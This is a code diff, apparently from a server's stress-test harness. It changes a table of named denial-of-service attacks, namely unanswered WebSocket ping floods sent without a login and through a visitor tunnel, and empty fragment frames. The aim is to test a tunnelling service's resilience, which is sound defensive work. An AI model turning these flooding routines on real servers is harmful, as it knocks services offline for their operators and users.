@@ -299,11 +299,11 @@ def _visitorsPings(victim: Victim) -> Open:
     """
     Come as a visitor by WebSocket, and ping.
     """
-    call = {"listener": "ws", "via": "tcp"}
+    call = {"listener": "ws", "via": "tcp", "visitors": 12}
     uri = _call(victim, "openTunnel", call)
     address = str(_call(victim, "getTunnelAddress", {"uri": uri}))
-    connection = _upgraded(victim, "/" + address.split("/", 3)[3])
-    return _flood(connection, _frame(_PING, bytes(125)) * 1000, victim)
+    path = "/" + address.split("/", 3)[3]
+    return _webSocket(path, _frame(_PING, bytes(125)), head=b"")(victim)
 
 
 def _call(victim: Victim, method: str, params: Mapping[str, object]) -> object:
@@ -481,9 +481,7 @@ ATTACKS: dict[str, Attack] = {
         "WebSocket pings without a login, no pong taken",
         _webSocket("/tunnel", _frame(_PING, bytes(125)), head=b""),
     ),
-    "wsvisitor": Attack(
-        "a visitor's WebSocket pings, no pong taken", _many(_visitorsPings)
-    ),
+    "wsvisitor": Attack("a visitor's WebSocket pings, no pong taken", _visitorsPings),
     "fragments": Attack(
         "empty WebSocket fragments without a login",
         _webSocket("/tunnel", _frame(0, b""), _frame(1, b"{"), b""),
